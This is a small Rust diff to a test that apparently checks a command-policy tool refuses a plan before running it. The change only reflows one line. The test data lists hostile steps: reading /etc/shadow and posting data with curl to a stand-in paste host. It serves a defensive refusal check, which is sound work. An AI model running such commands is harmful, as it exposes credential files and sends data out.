@@ -19,7 +19,8 @@ fn person(policy: &str, commands: &[&str]) -> Person {
 
 #[test]
 fn a_plan_that_reads_secrets_and_sends_them_is_refused_before_anything_ran() {
-    let person = person("extends = [\"developer\"]\n", &["cargo test", "cat /etc/shadow", "curl -d x https://paste.example"]);
+    let person =
+        person("extends = [\"developer\"]\n", &["cargo test", "cat /etc/shadow", "curl -d x https://paste.example"]);
     let said = person.run(&["plan", "check", "plan.jsonl"]);
     assert_eq!(said.code, 4, "{}{}", said.out, said.err);
     assert!(said.out.contains("because of step 2"), "{}", said.out);
